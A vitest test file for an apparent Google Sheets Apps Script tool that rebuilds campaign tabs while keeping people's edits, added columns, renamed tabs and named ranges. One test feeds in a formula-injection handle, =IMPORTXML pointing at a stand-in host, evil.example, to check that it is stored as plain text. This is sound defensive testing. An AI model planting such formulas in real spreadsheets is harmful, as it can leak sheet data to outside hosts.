// Rebuilding tabs keeps what people typed: edited cells, rows added by hand, their own columns, renamed tabs.
import { describe, expect, it } from 'vitest';
import { columnLetter } from '../../src/domain/tabs/spec.ts';
import { fixture, freshBundle, rowsByHeader } from '../support/bundle.ts';

describe('building tabs twice', () => {
  it('keeps every typed row, edited cells and a column a person added', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    bundle.run('importCampaign', fixture('small-campaign.json'));
    const header = workspace.inspect.values('Creators')[0];
    const extra = header.length + 1;
    const letter = columnLetter(extra); // past Z once the tab has more than 26 columns
    workspace.inspect.setCell('Creators', `${letter}1`, 'Agency notes');
    workspace.inspect.setCell('Creators', `${letter}3`, 'Great to work with');
    workspace.inspect.setCell('Creators', 'G2', '500'); // cost of @nano edited by a person
    workspace.inspect.setCell('Creators', 'A6', '@handtyped'); // a row added by hand
    workspace.inspect.setCell('Creators', 'C6', '12K');

    const before = workspace.inspect.values('Creators');
    const result = bundle.run('buildTabs') as any;
    const after = workspace.inspect.values('Creators');

    expect(result.created).toEqual([]);
    expect(after[0][extra - 1]).toBe('Agency notes');
    expect(after[2][extra - 1]).toBe('Great to work with');
    expect(after[1][6]).toBe(500);
    expect(after[5][0]).toBe('@handtyped');
    expect(after[5][2]).toBe('12K'); // never rewritten: the person typed it
    for (let r = 0; r < 6; r++) expect(after[r].slice(0, 3)).toEqual(before[r].slice(0, 3));
    expect(rowsByHeader(workspace, 'Creators').map((c) => c.Handle)).toEqual(['@nano', '@micro1', '@micro2', '@macro', '@handtyped']);
    expect(result.rowsKept.Creators).toBe(5);
  });

  it('clears what was typed below a hidden helper column\'s spill, every run in one call', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    bundle.run('importCampaign', fixture('small-campaign.json'));
    const header = workspace.inspect.values('Content')[0] as string[];
    const keys = header.indexOf('Rank keys');
    workspace.inspect.setCell('Content', `${columnLetter(keys + 1)}4`, 'typed'); // blocks the spill: #REF! in row 2
    workspace.inspect.setCell('Content', `${columnLetter(keys + 1)}9`, 'more');
    expect(workspace.inspect.values('Content')[1]?.[keys]).toBe('#REF!');
    const before = workspace.calls.snapshot();
    bundle.run('buildTabs');
    const calls = workspace.calls.snapshot();
    expect((calls['RangeList.clearContent'] ?? 0) - (before['RangeList.clearContent'] ?? 0)).toBe(1); // two runs, one call
    expect((calls['Range.clearContent'] ?? 0) - (before['Range.clearContent'] ?? 0)).toBe(0);
    const column = workspace.inspect.values('Content').slice(2).map((row) => row[keys]);
    expect(column.filter((v) => v === 'typed' || v === 'more')).toEqual([]);
    // Nothing in its way now: the keys spill again, as in Sheets, and every piece is ranked.
    expect(workspace.inspect.values('Content')[1]?.[keys]).not.toBe('#REF!');
    const rank = header.indexOf('Rank');
    expect(rowsByHeader(workspace, 'Content').filter((p) => typeof p.Rank === 'number')).toHaveLength(rowsByHeader(workspace, 'Content').length);
    expect(rank).toBeGreaterThan(-1);
  });

  it('recomputes with the edited value and names the unreadable cell in checks', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    bundle.run('importCampaign', fixture('small-campaign.json'));
    workspace.inspect.setCell('Creators', 'G2', '800');
    workspace.inspect.setCell('Creators', 'C3', 'lots');
    const creators = rowsByHeader(workspace, 'Creators');
    expect(creators[0].CPE).toBe(1); // 800 / 800
    const { checks } = bundle.run('runChecks') as any;
    expect(checks).toContainEqual(expect.objectContaining({ cell: 'Creators!C3', kind: 'unreadable-value' }));
  });

  it('finds a renamed tab instead of making a second one', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    bundle.run('importCampaign', fixture('small-campaign.json'));
    workspace.inspect.renameSheet('Creators', 'Creators (final)');
    const result = bundle.run('buildTabs') as any;
    expect(result.created).toEqual([]);
    expect(workspace.inspect.sheetNames()).not.toContain('Creators');
    workspace.inspect.setCell('Creators (final)', 'C3', 'lots');
    const { checks } = bundle.run('runChecks') as any;
    expect(checks).toContainEqual(expect.objectContaining({ cell: "'Creators (final)'!C3" }));
  });

  it('writes user text that looks like a formula as text', () => {
    const { workspace, bundle } = freshBundle();
    const file = fixture('small-campaign.json') as any;
    file.creators[0].handle = '=IMPORTXML("http://evil.example","//a")';
    file.creators[1].handle = '+SUM(1,2)';
    file.issues[0].description = '@mention -5 things';
    bundle.run('importCampaign', file);
    const values = workspace.inspect.values('Creators');
    const formulas = workspace.inspect.formulas('Creators');
    expect(values[1][0]).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(formulas[1][0]).toBe('');
    expect(values[2][0]).toBe('+SUM(1,2)');
    expect(workspace.inspect.values('Issues')[1][1]).toBe('@mention -5 things');
  });

  it('points a named range a person moved back at its field, moving only that one', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    const before = workspace.inspect.namedRanges().Debrief_WrapDate;
    const spreadsheet = (workspace.globals as Record<string, any>).SpreadsheetApp.getActiveSpreadsheet();
    spreadsheet.setNamedRange('Debrief_WrapDate', spreadsheet.getSheetByName('Campaign').getRange('D1'));
    expect(workspace.inspect.namedRanges().Debrief_WrapDate).toBe('Campaign!D1');
    const { calls } = workspace.calls.measure(() => bundle.run('buildTabs'));
    expect(workspace.inspect.namedRanges().Debrief_WrapDate).toBe(before);
    expect(Object.entries(calls).filter(([name]) => name.endsWith('NamedRange.setRange'))).toEqual([[expect.any(String), 1]]); // the others stayed put
  });
});

describe('rebuilding formula columns', () => {
  it('puts back a formula a person cleared, keeps a value typed over one, and leaves the rest of the column as it was', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('importCampaign', fixture('small-campaign.json'));
    const header = workspace.inspect.values('Creators')[0] as string[];
    const cpe = header.indexOf('CPE');
    expect(cpe).toBeGreaterThan(-1);
    const letter = String.fromCharCode(65 + cpe);
    const before = workspace.inspect.formulas('Creators').map((row) => row[cpe]);
    workspace.inspect.setCell('Creators', `${letter}2`, ''); // cleared by hand
    workspace.inspect.setCell('Creators', `${letter}3`, '0.5'); // typed over the formula
    const result = bundle.run('buildTabs') as any;
    const after = workspace.inspect.formulas('Creators').map((row) => row[cpe]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]).toBe('');
    expect(workspace.inspect.values('Creators')[2]![cpe]).toBe(0.5);
    expect(after.slice(3)).toEqual(before.slice(3));
    expect(result.checks).toContainEqual(expect.objectContaining({ cell: `Creators!${letter}3` }));
  });
});

describe('sizing tabs from the read', () => {
  it('leaves spare columns a person deleted deleted, never reading the sheet size for them, and keeps everything typed', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    bundle.run('importCampaign', fixture('small-campaign.json'));
    const { lastColumn, maxColumns } = workspace.inspect.dimensions('Creators');
    expect(maxColumns).toBeGreaterThanOrEqual(lastColumn + 3); // the build's spare columns
    const sheet = (workspace.globals as Record<string, any>).SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Creators');
    sheet.deleteColumns(lastColumn + 1, maxColumns - lastColumn); // a person removes every empty column
    workspace.inspect.setCell('Creators', 'G2', '500'); // and types a cost
    const before = workspace.inspect.values('Creators');
    const { calls } = workspace.calls.measure(() => bundle.run('buildTabs'));
    expect(calls['Sheet.getMaxColumns'] ?? 0).toBe(0);
    expect(calls['Sheet.insertColumnsAfter'] ?? 0).toBe(0);
    expect(workspace.inspect.dimensions('Creators').maxColumns).toBe(lastColumn);
    expect(workspace.inspect.values('Creators')).toEqual(before);
  });

  it('grows a formula tab after the rows it read, without reading its size, exactly by the rows an import adds', () => {
    const { workspace, bundle } = freshBundle();
    bundle.run('buildTabs');
    bundle.run('importCampaign', fixture('small-campaign.json'));
    const before = workspace.inspect.dimensions('Creators');
    const file = fixture('small-campaign.json') as { creators: Record<string, unknown>[] };
    const more = Array.from({ length: 60 }, (_, i) => ({ ...file.creators[0], handle: `@more${i}` }));
    const { calls } = workspace.calls.measure(() => bundle.run('importCampaign', { ...file, creators: [...file.creators, ...more] }));
    // Only Issues and Wins read their size: KPIs, Creators and Content have a formula in every formatted row.
    expect(calls['Sheet.getMaxRows'] ?? 0).toBe(2);
    const after = workspace.inspect.dimensions('Creators');
    expect(after.maxRows - before.maxRows).toBe(60); // the blank rows below the formatted ones stay below them
    expect(after.lastRow).toBe(before.lastRow + 60); // formulas in the new rows too, 50 spare ones still below the data
    expect(rowsByHeader(workspace, 'Creators').filter((c) => String(c.Handle).startsWith('@more'))).toHaveLength(60);
  });
});
